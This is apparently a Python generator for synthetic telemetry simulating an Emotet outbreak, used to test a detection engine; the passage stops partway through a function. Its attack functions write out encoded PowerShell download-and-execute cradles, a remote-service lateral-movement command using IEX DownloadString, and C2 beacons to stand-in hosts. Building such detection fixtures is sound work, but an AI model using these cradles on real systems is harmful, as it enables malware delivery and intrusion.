#!/usr/bin/env python3
"""Generate the recorded Emotet outbreak scenario as ECS JSON lines, plus its golden expectation.

What this is for: one realistic, fully deterministic morning at corp.example in which an Emotet
reply-chain mail infects two workstations, spreads to the file server and sends spam, buried in
~1,900 records of ordinary Windows, browser, mail and installer activity. The records look like
what Winlogbeat (endpoints) and Filebeat (mail gateway) put on Kafka; the golden file says which
records belong to the attack.

The one thing a reader must know: the role of every record (attack / context / benign) is decided
HERE, in the generator, and written only to the expectation file. The telemetry itself carries no
hint (no "is_attack" field), so the engine has to earn the answer from joins alone.

Determinism: no clock, no uuid4, no `random` module. Every random choice comes from a SHA-256
counter stream named after its purpose, and every GUID or hash is a digest of a name, so the
output is byte-identical on every machine and Python version.

Usage:
  python3 gen_emotet.py > ../emotet-outbreak.ecs.jsonl
  python3 gen_emotet.py --out ../emotet-outbreak.ecs.jsonl \
                        --expected ../emotet-outbreak.expected.json
  python3 gen_emotet.py --check      # regenerate in memory, validate, compare to committed files
"""

import argparse
import base64
import datetime
import hashlib
import json
import os
import sys

SEED = "xdrflow-emotet-outbreak-v1"
BASE = datetime.datetime(2026, 11, 20, 9, 0, 0, tzinfo=datetime.timezone.utc)
DOMAIN = "corp.example"
NETBIOS = "CORP"

HERE = os.path.dirname(os.path.abspath(__file__))
DEFAULT_OUT = os.path.join(HERE, "..", "emotet-outbreak.ecs.jsonl")
DEFAULT_EXPECTED = os.path.join(HERE, "..", "emotet-outbreak.expected.json")

N_DUPLICATES = 5


# ------------------------------------------------------------------------------------------------
# Deterministic randomness and names
# ------------------------------------------------------------------------------------------------

class Rand:
    """A counter-mode SHA-256 stream: same name, same numbers, on any Python."""

    def __init__(self, name):
        self.name = name
        self.n = 0

    def u64(self):
        self.n += 1
        d = hashlib.sha256(("%s/%s:%d" % (SEED, self.name, self.n)).encode()).digest()
        return int.from_bytes(d[:8], "big")

    def below(self, n):
        return self.u64() % n

    def between(self, lo, hi):
        return lo + self.below(hi - lo + 1)

    def choice(self, seq):
        return seq[self.below(len(seq))]

    def letters(self, n, alphabet="abcdefghijklmnopqrstuvwxyz"):
        return "".join(self.choice(alphabet) for _ in range(n))


def digest(name):
    return hashlib.sha256(("%s|%s" % (SEED, name)).encode()).hexdigest()


def guid(name):
    h = digest("guid|" + name).upper()
    return "{%s-%s-%s-%s-%s}" % (h[0:8], h[8:12], h[12:16], h[16:20], h[20:32])


def sha256_of(name):
    return digest("file|" + name)


def ps_enc(script):
    """What `powershell -enc` takes: base64 of the UTF-16LE script."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def iso(ms):
    t = BASE + datetime.timedelta(milliseconds=ms)
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (t.microsecond // 1000)


def at(hhmmss, ms=0):
    """Milliseconds since BASE for a wall-clock time on 2026-11-20 (UTC)."""
    h, m, s = (int(x) for x in hhmmss.split(":"))
    return ((h - 9) * 3600 + m * 60 + s) * 1000 + ms


# ------------------------------------------------------------------------------------------------
# The world: hosts, users, well-known paths and addresses
# ------------------------------------------------------------------------------------------------

OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
SYS32 = "C:\\Windows\\System32\\"
PS_EXE = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
ACRO = "C:\\Program Files (x86)\\Adobe\\Acrobat Reader DC\\Reader\\AcroRd32.exe"

FS01_IP = "10.20.0.21"
MX1_IP = "10.20.0.5"
EXCH_IP = "10.20.0.6"
DC_IP = "10.20.0.10"

# Attack infrastructure. TEST-NET ranges only.
PAYLOAD_DOMAIN = "shop.example-bad.test"
PAYLOAD_DEAD_DOMAIN = "old-blog.example-bad.test"
PAYLOAD_IP = "203.0.113.77"
PAYLOAD_URL = "http://shop.example-bad.test/wp-content/x/x.dll"
C2 = [("203.0.113.10", 8080), ("198.51.100.23", 7080), ("203.0.113.45", 443)]
DOCM_NAME = "Invoice_2026-11.docm"
DOCM_SHA256 = sha256_of("attachment:" + DOCM_NAME)
DOCM_SIZE = 186_412
DLL_SHA256 = sha256_of("emotet-epoch5-loader.dll")
ATTACK_MSGID = "<CAK7f3Rq9.2026112008590431@mail.northwind-supplies.example>"

NEWS_PDF = "Corp_Newsletter_Nov2026.pdf"
NEWS_SHA256 = sha256_of("attachment:" + NEWS_PDF)

# Web names and the (shared, CDN-like) addresses they resolve to. 192.0.2.0/24 is TEST-NET-1.
WEB = {
    "www.google.com": "192.0.2.14", "fonts.gstatic.com": "192.0.2.14",
    "ajax.googleapis.com": "192.0.2.14", "www.bing.com": "192.0.2.40",
    "www.wikipedia.org": "192.0.2.61", "github.com": "192.0.2.72",
    "stackoverflow.com": "192.0.2.83", "cdn.jsdelivr.net": "192.0.2.90",
    "www.bbc.co.uk": "192.0.2.97", "login.microsoftonline.com": "192.0.2.120",
    "news.ycombinator.com": "192.0.2.130", "www.weather.example": "192.0.2.90",
    "intranet.corp.example": "10.20.0.30", "acroipm2.adobe.com": "192.0.2.150",
    "download.contoso.example": "192.0.2.160", "telemetry.contoso.example": "192.0.2.161",
}
UPDATE = {
    "fe3cr.delivery.mp.microsoft.com": "192.0.2.200", "slscr.update.microsoft.com": "192.0.2.201",
    "settings-win.data.microsoft.com": "192.0.2.202", "ctldl.windowsupdate.com": "192.0.2.203",
    "v10.events.data.microsoft.com": "192.0.2.204",
}


class Host:
    def __init__(self, short, ip, user, session_logon, record_base):
        self.short = short
        self.fqdn = short + "." + DOMAIN
        self.ip = ip
        self.ipv6 = "fe80::%s:%s" % (digest(short)[0:4], digest(short)[4:8])
        self.user = user
        self.session_logon = session_logon
        self.record_base = record_base
        self.pids = set()
        self.r = Rand("host/" + short)
        self.agent_id = guid("agent|" + short)[1:-1].lower()
        self.next_sport = 49700 + self.r.below(3000)

    def pid(self):
        while True:
            p = 4 * self.r.between(250, 4000)
            if p not in self.pids:
                self.pids.add(p)
                return p

    def sport(self):
        self.next_sport += 1 + self.r.below(7)
        if self.next_sport > 65000:
            self.next_sport = 49700
        return self.next_sport


WS = {}
for i, (u, lid) in enumerate([("akiko", "0x3a1f2c"), ("bruno", "0x41c7d0"), ("chen", "0x2f9e14"),
                              ("emre", "0x3377a8"), ("dana", "0x52be06"), ("farah", "0x29d4f1")]):
    n = 11 + i
    WS[u] = Host("ws-%03d" % n, "10.20.1.%d" % n, u, lid, 100_000 + 7919 * n)
FS01 = Host("fs-01", FS01_IP, None, None, 2_400_000)
MX1 = Host("mx1", MX1_IP, None, None, 0)
HOSTS = list(WS.values()) + [FS01]


PROC_BY_GUID = {}


class Proc:
    def __init__(self, host, exe, cmd, user, domain, parent, pid=None, cwd=None, logon=None,
                 integrity=None, name_salt=""):
        self.host = host
        self.exe = exe
        self.name = exe.rsplit("\\", 1)[-1]
        self.cmd = cmd
        self.user = user
        self.domain = domain
        self.parent = parent
        self.pid = pid if pid is not None else host.pid()
        self.cwd = cwd
        self.logon = logon
        self.integrity = integrity
        self.guid = guid("proc|%s|%s|%d|%s" % (host.short, exe, self.pid, name_salt))
        self.start_rec = None
        if self.guid in PROC_BY_GUID:
            raise SystemExit("GUID collision: " + self.guid)
        PROC_BY_GUID[self.guid] = self


# ------------------------------------------------------------------------------------------------
# Records. Each is an ECS document (nested dicts, insertion-ordered) plus generator-only metadata.
# ------------------------------------------------------------------------------------------------

class Rec:
    def __init__(self, host, t, channel, doc, role, key=None):
        self.host = host          # Host, or MX1 for the gateway
        self.t = t                # event time, ms since BASE
        self.channel = channel    # sysmon | security | system | mailgw
        self.doc = doc
        self.role = role          # attack | benign (context is derived later)
        self.key = key            # must_include label, or None
        self.delay = 0            # ms between event time and when it reaches Kafka
        self.id = None
        self.line = None


RECS = []


def user_obj(user, domain):
    return {"name": user, "domain": domain}


def envelope(host, t, category, etype, code, action, channel):
    is_mail = channel == "mailgw"
    doc = {"@timestamp": iso(t), "event": {"id": None, "kind": "event", "category": category,
                                           "type": etype}}
    if code is not None:
        doc["event"]["code"] = code
    doc["event"]["action"] = action
    prov = {"sysmon": "Microsoft-Windows-Sysmon",
            "security": "Microsoft-Windows-Security-Auditing",
            "system": "Service Control Manager"}.get(channel)
    if prov:
        doc["event"]["provider"] = prov
        doc["event"]["module"] = {"sysmon": "sysmon", "security": "security",
                                  "system": "system"}[channel]
    else:
        doc["event"]["module"] = "mailgw"
        doc["event"]["dataset"] = "mailgw.messages"
    doc["host"] = {"name": host.fqdn, "hostname": host.short, "ip": [host.ip, host.ipv6]}
    doc["agent"] = {"type": "filebeat" if is_mail else "winlogbeat", "version": "8.11.0",
                    "name": host.short, "id": host.agent_id}
    doc["ecs"] = {"version": "8.11.0"}
    if not is_mail:
        doc["winlog"] = {"channel": {"sysmon": "Microsoft-Windows-Sysmon/Operational",
                                     "security": "Security", "system": "System"}[channel],
                         "provider_name": prov, "computer_name": host.fqdn,
                         "event_id": code, "record_id": None}
    return doc


def proc_ref(p):
    return {"entity_id": p.guid, "pid": p.pid, "executable": p.exe, "name": p.name}


def emit(host, t, channel, doc, role, key=None):
    r = Rec(host, t, channel, doc, role, key)
    RECS.append(r)
    return r


def proc_start(host, t, exe, cmd, parent, role, key=None, user=None, domain=NETBIOS, cwd=None,
               logon=None, integrity="Medium", sha256=None, salt=""):
    if user is None:
        user = host.user
    if logon is None:
        logon = host.session_logon if user == host.user else "0x3e7"
    if cwd is None:
        cwd = "C:\\Users\\%s\\" % user if integrity == "Medium" else SYS32
    p = Proc(host, exe, cmd, user, domain, parent, cwd=cwd, logon=logon, integrity=integrity,
             name_salt=salt)
    doc = envelope(host, t, ["process"], ["start"], "1", "Process Create (rule: ProcessCreate)",
                   "sysmon")
    pr = {"entity_id": p.guid, "pid": p.pid, "executable": exe, "name": p.name,
          "command_line": cmd, "working_directory": cwd}
    if sha256:
        pr["hash"] = {"sha256": sha256}
    pr["parent"] = {"entity_id": parent.guid, "pid": parent.pid, "executable": parent.exe,
                    "name": parent.name, "command_line": parent.cmd}
    doc["process"] = pr
    doc["user"] = user_obj(user, domain)
    doc["winlog"]["event_data"] = {"LogonId": logon, "IntegrityLevel": integrity,
                                   "TerminalSessionId": "1" if integrity == "Medium" else "0"}
    p.start_rec = emit(host, t, "sysmon", doc, role, key)
    return p


def running(host, exe, cmd, user, domain, parent=None, pid=None, logon="0x3e7",
            integrity="System"):
    """A process that started before the recording window (no start record)."""
    return Proc(host, exe, cmd, user, domain, parent, pid=pid, logon=logon, integrity=integrity,
                cwd=SYS32)


def file_create(p, t, path, role, key=None, sha256=None):
    doc = envelope(p.host, t, ["file"], ["creation"], "11", "File created (rule: FileCreate)",
                   "sysmon")
    name = path.rsplit("\\", 1)[-1]
    f = {"path": path, "name": name, "directory": path.rsplit("\\", 1)[0]}
    if "." in name:
        f["extension"] = name.rsplit(".", 1)[-1].lower()
    if sha256:
        f["hash"] = {"sha256": sha256}
    doc["file"] = f
    doc["process"] = proc_ref(p)
    doc["user"] = user_obj(p.user, p.domain)
    return emit(p.host, t, "sysmon", doc, role, key)


def net_conn(p, t, dip, dport, role, key=None, domain=None, url=None):
    doc = envelope(p.host, t, ["network"], ["connection", "start"], "3",
                   "Network connection detected (rule: NetworkConnect)", "sysmon")
    doc["source"] = {"ip": p.host.ip, "port": p.host.sport()}
    doc["destination"] = {"ip": dip, "port": dport}
    if domain:
        doc["destination"]["domain"] = domain
    doc["network"] = {"transport": "tcp", "direction": "egress", "type": "ipv4"}
    if url:
        doc["url"] = {"full": url, "domain": url.split("/")[2], "scheme": url.split(":")[0]}
    doc["process"] = proc_ref(p)
    doc["user"] = user_obj(p.user, p.domain)
    return emit(p.host, t, "sysmon", doc, role, key)


def dns_query(p, t, name, answers, role, key=None):
    doc = envelope(p.host, t, ["network"], ["info"], "22", "Dns query (rule: DnsQuery)", "sysmon")
    d = {"question": {"name": name}}
    if answers:
        d["answers"] = [{"data": a, "type": "A"} for a in answers]
        d["resolved_ip"] = list(answers)
        d["response_code"] = "NOERROR"
    else:
        d["response_code"] = "NXDOMAIN"
    doc["dns"] = d
    doc["network"] = {"protocol": "dns"}
    doc["process"] = proc_ref(p)
    doc["user"] = user_obj(p.user, p.domain)
    doc["winlog"]["event_data"] = {"QueryStatus": "0" if answers else "9003"}
    return emit(p.host, t, "sysmon", doc, role, key)


def logon(host, t, ltype, user, domain, src_ip, src_ws, target_logon, role, key=None,
          package="Kerberos"):
    names = {"2": "Interactive", "3": "Network", "11": "CachedInteractive"}
    doc = envelope(host, t, ["authentication"], ["start"], "4624", "logged-in", "security")
    doc["event"]["outcome"] = "success"
    doc["user"] = user_obj(user, domain)
    doc["source"] = {"ip": src_ip}
    if src_ws:
        doc["source"]["domain"] = src_ws
    if ltype == "3":
        doc["source"]["port"] = host.sport() if src_ip != "127.0.0.1" else 0
    doc["winlog"]["logon"] = {"type": names[ltype], "id": target_logon}
    doc["winlog"]["event_data"] = {
        "LogonType": ltype, "TargetUserName": user, "TargetDomainName": domain,
        "TargetLogonId": target_logon, "IpAddress": src_ip, "WorkstationName": src_ws or "-",
        "AuthenticationPackageName": package,
        "LogonProcessName": "NtLmSsp" if package == "NTLM" else ("User32" if ltype == "2"
                                                                 else "Kerberos"),
    }
    return emit(host, t, "security", doc, role, key)


def service_install(host, t, name, image_path, user, role, key=None):
    doc = envelope(host, t, ["configuration"], ["creation"], "7045", "Service installed",
                   "system")
    doc["user"] = user_obj(user, NETBIOS)
    doc["service"] = {"name": name}
    doc["winlog"]["event_data"] = {"ServiceName": name, "ImagePath": image_path,
                                   "ServiceType": "user mode service",
                                   "StartType": "demand start", "AccountName": "LocalSystem"}
    return emit(host, t, "system", doc, role, key)


def mail(t, msgid, sender, to, subject, role, key=None, attachments=(), urls=(), outcome="success",
         action="delivered", reply_to=None, sender_ip="198.18.0.1"):
    doc = envelope(MX1, t, ["email"], ["info"], None, action, "mailgw")
    doc["event"]["outcome"] = outcome
    doc["observer"] = {"vendor": "ExampleMail", "product": "Secure Gateway", "hostname": "mx1"}
    e = {"message_id": msgid, "direction": "inbound", "from": {"address": sender},
         "to": {"address": list(to)}, "subject": subject,
         "delivery_timestamp": iso(t + 1800)}
    if reply_to:
        e["reply_to"] = {"address": [reply_to]}
    if attachments:
        e["attachments"] = [{"file": {"name": n, "mime_type": m, "size": s,
                                      "hash": {"sha256": h}}} for (n, m, s, h) in attachments]
    doc["email"] = e
    doc["source"] = {"ip": sender_ip}
    if urls:
        doc["url"] = {"full": list(urls)}
    return emit(MX1, t, "mailgw", doc, role, key)


# ------------------------------------------------------------------------------------------------
# The story
# ------------------------------------------------------------------------------------------------

SYSTEM = ("SYSTEM", "NT AUTHORITY")
NETSVC = ("NETWORK SERVICE", "NT AUTHORITY")


def base_processes(h):
    """Long-running processes every Windows host has before 07:55 (no start records)."""
    sysp = running(h, "System", "", *SYSTEM, pid=4)
    services = running(h, SYS32 + "services.exe", "C:\\Windows\\system32\\services.exe",
                       *SYSTEM, pid=4 * h.r.between(150, 190))
    dcom = running(h, SYS32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
                   *SYSTEM, parent=services)
    netsvcs = running(h, SYS32 + "svchost.exe",
                      "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv", *SYSTEM,
                      parent=services)
    sched = running(h, SYS32 + "svchost.exe",
                    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", *SYSTEM,
                    parent=services)
    dnscache = running(h, SYS32 + "svchost.exe",
                       "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s Dnscache",
                       *NETSVC, parent=services, logon="0x3e4")
    return {"system": sysp, "services": services, "dcom": dcom, "wu": netsvcs, "sched": sched,
            "dnscache": dnscache}


def windows_noise(h, base, t0, t1):
    """Windows Update, telemetry and scheduled-task chatter from svchost: every host, all day."""
    r = Rand("noise/windows/" + h.short)
    t = t0 + r.between(10_000, 60_000)
    while t < t1:
        kind = r.below(10)
        if kind < 5:
            name = r.choice(sorted(UPDATE))
            dns_query(base["wu"], t, name, [UPDATE[name]], "benign")
            net_conn(base["wu"], t + r.between(20, 200), UPDATE[name], r.choice([443, 443, 80]),
                     "benign", domain=name)
        elif kind < 7:
            exe, cmd, par = r.choice([
                (SYS32 + "MoUsoCoreWorker.exe",
                 "C:\\Windows\\System32\\mousocoreworker.exe -Embedding", "dcom"),
                (SYS32 + "taskhostw.exe", "taskhostw.exe Install $(Arg0)", "sched"),
                (SYS32 + "backgroundTaskHost.exe",
                 "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost"
                 ".WebAccountProvider", "dcom"),
                (SYS32 + "sppsvc.exe", "C:\\Windows\\system32\\sppsvc.exe", "services"),
                (SYS32 + "CompatTelRunner.exe",
                 "C:\\Windows\\system32\\compattelrunner.exe -m:appraiser.dll -f:DoScheduledTele"
                 "metryRun", "sched"),
            ])
            p = proc_start(h, t, exe, cmd, base[par], "benign", user="SYSTEM",
                           domain="NT AUTHORITY", integrity="System")
            if p.name == "CompatTelRunner.exe":
                net_conn(p, t + r.between(500, 3000), UPDATE["v10.events.data.microsoft.com"],
                         443, "benign", domain="v10.events.data.microsoft.com")
        elif kind < 9:
            fn = "C:\\Windows\\SoftwareDistribution\\Download\\%s\\%s.cab" % (
                digest("wu%s%d" % (h.short, t))[:32], r.letters(8, "0123456789abcdef"))
            file_create(base["wu"], t, fn, "benign")
        else:
            net_conn(base["system"], t, DC_IP, r.choice([445, 389, 88]), "benign")
        t += r.between(60_000, 240_000)


def chrome_session(h, explorer, t0, t1, r):
    chrome = proc_start(h, t0, CHROME, "\"%s\" " % CHROME, explorer, "benign",
                        cwd="C:\\Program Files\\Google\\Chrome\\Application\\")
    net = proc_start(h, t0 + 700, CHROME,
                     "\"%s\" --type=utility --utility-sub-type=network.mojom.NetworkService "
                     "--lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=2156"
                     " /prefetch:11" % CHROME, chrome, "benign", salt="net",
                     cwd="C:\\Program Files\\Google\\Chrome\\Application\\")
    for k in range(r.between(1, 3)):
        proc_start(h, t0 + 900 + 200 * k, CHROME,
                   "\"%s\" --type=renderer --lang=en-US --renderer-client-id=%d "
                   "--mojo-platform-channel-handle=%d /prefetch:1" % (CHROME, 5 + k, 3000 + 17 * k),
                   chrome, "benign", salt="rend%d" % k, integrity="Low",
                   cwd="C:\\Program Files\\Google\\Chrome\\Application\\")
    t = t0 + 2000
    sites = sorted(n for n in WEB if "contoso" not in n and "adobe" not in n)
    while t < t1:
        name = r.choice(sites)
        dns_query(net, t, name, [WEB[name]], "benign")
        for k in range(r.between(1, 2)):
            net_conn(net, t + 30 + 40 * k, WEB[name], 443, "benign", domain=name)
        t += r.between(40_000, 280_000)
    return chrome, net


def outlook_sync(h, outlook, t0, t1, r):
    t = t0 + r.between(5_000, 30_000)
    while t < t1:
        if r.below(3) == 0:
            dns_query(outlook, t, "mail.corp.example", [EXCH_IP], "benign")
        net_conn(outlook, t + 15, EXCH_IP, 443, "benign", domain="mail.corp.example")
        t += r.between(240_000, 600_000)


def content_outlook(h, r):
    return ("C:\\Users\\%s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\%s\\"
            % (h.user, r.letters(8, "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789")))


def workstation_day(h, base, t_logon, t_end):
    """An ordinary morning: logon, explorer, mapped drive, Outlook, Chrome, a few apps."""
    r = Rand("day/" + h.short)
    logon(h, t_logon, "2", h.user, NETBIOS, "127.0.0.1", h.short.upper(), h.session_logon,
          "benign", package="Negotiate")
    userinit = running(h, SYS32 + "userinit.exe", "C:\\Windows\\system32\\userinit.exe",
                       h.user, NETBIOS, logon=h.session_logon, integrity="Medium")
    explorer = proc_start(h, t_logon + 2_100, "C:\\Windows\\explorer.exe",
                          "C:\\Windows\\Explorer.EXE", userinit, "benign",
                          cwd="C:\\Windows\\system32\\")
    wmi = proc_start(h, t_logon + 3_000 + r.below(2000), SYS32 + "wbem\\WmiPrvSE.exe",
                     "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                     base["dcom"], "benign", user="NETWORK SERVICE", domain="NT AUTHORITY",
                     logon="0x3e4", integrity="System")
    # Mapped drive: the SMB client is the kernel ("System"), and fs-01 sees a Kerberos logon.
    net_conn(base["system"], t_logon + 4_000, FS01_IP, 445, "benign")
    logon(FS01, t_logon + 4_040, "3", h.user, NETBIOS, h.ip, h.short.upper(),
          "0x%x" % (0x600000 + Rand("lid/" + h.short).below(0x1fffff)), "benign")
    for exe, cmd in [
        ("C:\\Users\\%s\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" % h.user,
         "\"C:\\Users\\%s\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background"
         % h.user),
        (SYS32 + "SecurityHealthSystray.exe",
         "\"C:\\Windows\\System32\\SecurityHealthSystray.exe\""),
        ("C:\\Program Files\\WindowsApps\\MicrosoftTeams_23285.3604.2469.4152_x64__8wekyb3d8bbwe"
         "\\ms-teams.exe", "\"ms-teams.exe\" --system-initiated"),
    ]:
        proc_start(h, t_logon + 5_000 + r.below(8_000), exe, cmd, explorer, "benign")
    outlook = proc_start(h, t_logon + 20_000 + r.below(60_000), OFFICE + "OUTLOOK.EXE",
                         "\"%sOUTLOOK.EXE\" " % OFFICE, explorer, "benign")
    outlook_sync(h, outlook, outlook.start_rec.t, t_end, r)
    tc = t_logon + 120_000 + r.below(300_000)
    chrome_session(h, explorer, tc, t_end, Rand("chrome/" + h.short))
    # A couple of everyday apps from explorer (explorer is the hub of the user's tree).
    for k in range(2):
        tt = t_logon + 600_000 + r.below(8_000_000)
        exe, cmd = r.choice([
            (SYS32 + "notepad.exe", "\"C:\\Windows\\system32\\notepad.exe\" "
             "C:\\Users\\%s\\Documents\\notes.txt" % h.user),
            (SYS32 + "calc.exe", "\"C:\\Windows\\System32\\calc.exe\" "),
            (OFFICE + "EXCEL.EXE", "\"%sEXCEL.EXE\" \"\\\\fs-01\\shared\\Budget_2027.xlsx\""
             % OFFICE),
            (SYS32 + "SnippingTool.exe", "\"C:\\Windows\\system32\\SnippingTool.exe\" "),
        ])
        proc_start(h, tt, exe, cmd, explorer, "benign")
    # Search indexer children: frequent, boring, SYSTEM.
    idx = running(h, SYS32 + "SearchIndexer.exe",
                  "C:\\Windows\\system32\\SearchIndexer.exe /Embedding", *SYSTEM,
                  parent=base["services"])
    t = t_logon + 60_000
    while t < t_end:
        proc_start(h, t, SYS32 + "SearchProtocolHost.exe",
                   "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthr"
                   "Pipe%d_ Global\\UsGthrCtrlFltPipeMssGthrPipe%d 1 -2147483646 \"Software\\Micros"
                   "oft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS "
                   "Search 4.0 Robot)\" \"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\"
                   "usgthrsvc\" \"DownLevelDaemon\" " % (t % 97, t % 97), idx, "benign",
                   user="SYSTEM", domain="NT AUTHORITY", integrity="System")
        t += r.between(900_000, 1_800_000)
    # Office autosave / temp files from Outlook.
    for k in range(r.between(3, 6)):
        tt = outlook.start_rec.t + 60_000 + r.below(9_000_000)
        if tt < t_end:
            file_create(outlook, tt, "C:\\Users\\%s\\AppData\\Local\\Temp\\Outlook Logging\\"
                        "OUTLOOK_%d.etl" % (h.user, k), "benign")
    return explorer, outlook, wmi


def open_attachment_benign(h, outlook, t, name, sha256, app_exe, app_cmd_fmt, r):
    """Open a benign attachment from Outlook: the same shape as the attack's first two steps."""
    path = content_outlook(h, r) + name
    file_create(outlook, t, path, "benign", sha256=sha256)
    return proc_start(h, t + r.between(1_500, 3_000), app_exe, app_cmd_fmt % path, outlook,
                      "benign")


def open_newsletter(h, outlook, t):
    r = Rand("newsletter/" + h.short)
    acro = open_attachment_benign(h, outlook, t, NEWS_PDF, NEWS_SHA256, ACRO,
                                  "\"" + ACRO + "\" \"%s\"", r)
    tt = acro.start_rec.t
    proc_start(h, tt + 400, ACRO, "\"%s\" --type=renderer /prefetch:1 \"%s\""
               % (ACRO, acro.cmd.split("\" \"")[1].rstrip("\"")), acro, "benign", salt="rend",
               integrity="Low")
    dns_query(acro, tt + 1_200, "acroipm2.adobe.com", [WEB["acroipm2.adobe.com"]], "benign")
    net_conn(acro, tt + 1_260, WEB["acroipm2.adobe.com"], 443, "benign",
             domain="acroipm2.adobe.com")


def infect(h, outlook, wmi, t_open, rundll):
    """The victim opens the docm: Outlook cache write, Word, WMI->PowerShell, download, loader."""
    r = Rand("attack/" + h.short)
    u = h.user
    path = content_outlook(h, r) + DOCM_NAME
    file_create(outlook, t_open, path, "attack", key="attachment_write:" + h.short,
                sha256=DOCM_SHA256)
    word = proc_start(h, t_open + 1_850, OFFICE + "WINWORD.EXE",
                      "\"%sWINWORD.EXE\" /n \"%s\" /o \"\"" % (OFFICE, path), outlook, "attack",
                      key="winword_start:" + h.short, cwd=path.rsplit("\\", 1)[0] + "\\")
    # The macro calls Win32_Process.Create: WmiPrvSE, not Word, becomes the parent.
    d1 = r.letters(4).capitalize()
    f1 = r.letters(4).capitalize()
    dll = "C:\\Users\\%s\\AppData\\Local\\%s\\%s.dll" % (u, d1, f1)
    runner = ("& rundll32.exe $f,Control_RunDLL" if rundll else "& regsvr32.exe /s $f")
    script = ("$ErrorActionPreference='SilentlyContinue';$d=\"$env:LOCALAPPDATA\\%s\";"
              "md $d -Force|Out-Null;$f=\"$d\\%s.dll\";foreach($u in 'http://%s/wp-admin/q/',"
              "'http://%s/wp-content/x/'){try{(New-Object Net.WebClient).DownloadFile($u+'x.dll',"
              "$f);if((Get-Item $f).Length -gt 40000){%s;break}}catch{}}"
              % (d1, f1, PAYLOAD_DEAD_DOMAIN, PAYLOAD_DOMAIN, runner))
    tp = word.start_rec.t + 21_000 + r.below(9_000)
    ps = proc_start(h, tp, PS_EXE, "powershell.exe -nop -w hidden -enc " + ps_enc(script), wmi,
                    "attack", key="wmiprvse_powershell:" + h.short, cwd=SYS32)
    dns_query(ps, tp + 900, PAYLOAD_DEAD_DOMAIN, [], "attack")
    dns_query(ps, tp + 1_400, PAYLOAD_DOMAIN, [PAYLOAD_IP], "attack")
    net_conn(ps, tp + 1_450, PAYLOAD_IP, 80, "attack", domain=PAYLOAD_DOMAIN, url=PAYLOAD_URL)
    file_create(ps, tp + 3_100, dll, "attack", key="dll_write:" + h.short, sha256=DLL_SHA256)
    if rundll:
        loader = proc_start(h, tp + 3_600, SYS32 + "rundll32.exe",
                            "\"C:\\Windows\\system32\\rundll32.exe\" \"%s\",Control_RunDLL" % dll,
                            ps, "attack", key="loader_start:" + h.short, cwd=SYS32)
    else:
        loader = proc_start(h, tp + 3_600, SYS32 + "regsvr32.exe",
                            "\"C:\\Windows\\system32\\regsvr32.exe\" /s \"%s\"" % dll, ps,
                            "attack", key="loader_start:" + h.short, cwd=SYS32)
    # Beacons: the three C2s in turn, every few minutes, until the end of the recording.
    t = tp + 9_000 + r.below(4_000)
    k = 0
    while t < at("10:28:00"):
        ip, port = C2[k % 3]
        net_conn(loader, t, ip, port, "attack", key=("c2:" + h.short) if k == 0 else None)
        k += 1
        t += r.between(240_000, 420_000)
    return loader


def spread_to_fs01(loader, t):
    """Emotet's spreader: SMB to the file server, a remote service that runs PowerShell."""
    h = loader.host
    r = Rand("spread")
    net_conn(loader, t, FS01_IP, 445, "attack", key="smb:" + h.short)
    net_conn(loader, t + 2_600, FS01_IP, 445, "attack")
    base = FS_BASE
    logon(FS01, t + 120, "3", h.user, NETBIOS, h.ip, h.short.upper(), "0x7e4a91", "attack",
          key="logon:fs-01", package="NTLM")
    svc = r.letters(12, "ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    script = ("$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');"
              "IEX $c.DownloadString('http://%s:%d/ps')" % C2[2])
    enc = ps_enc(script)
    image_path = "%%COMSPEC%% /b /c start /b /min powershell -nop -w hidden -enc %s" % enc
    service_install(FS01, t + 2_700, svc, image_path, h.user, "attack", key="service_install:fs-01")
    cmd = proc_start(FS01, t + 2_760, SYS32 + "cmd.exe",
                     "C:\\Windows\\system32\\cmd.exe /b /c start /b /min powershell -nop -w hidden "
                     "-enc " + enc, base["services"], "attack", key="services_cmd:fs-01",
                     user="SYSTEM", domain="NT AUTHORITY", integrity="System")
    proc_start(FS01, t + 2_790, SYS32 + "conhost.exe",
               "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", cmd, "attack",
               user="SYSTEM", domain="NT AUTHORITY", integrity="System")
    ps = proc_start(FS01, t + 2_900, PS_EXE, "powershell  -nop -w hidden -enc " + enc, cmd,
                    "attack", key="cmd_powershell:fs-01", user="SYSTEM", domain="NT AUTHORITY",
                    integrity="System")
    net_conn(ps, t + 4_300, C2[2][0], C2[2][1], "attack", key="c2:fs-01",
             url="http://%s:%d/ps" % C2[2])
    net_conn(ps, t + 905_000, C2[0][0], C2[0][1], "attack")


def send_spam(loader, t):
    h = loader.host
    r = Rand("spam")
    file_create(loader, t, "C:\\Users\\%s\\Documents\\Outlook Files\\%s@corp.example.pst"
                % (h.user, h.user), "attack", key="pst:" + h.short)
    t += 45_000
    for k in range(30):
        ip = "198.51.100.%d" % (130 + k)
        port = 587 if k % 3 == 0 else 25
        net_conn(loader, t, ip, port, "attack", key="spam:%s:%02d" % (h.short, k),
                 domain="mx%d.mailhost-%02d.example" % (1 + k % 2, k))
        t += r.between(8_000, 25_000)


def admin_inventory(h, explorer, t):
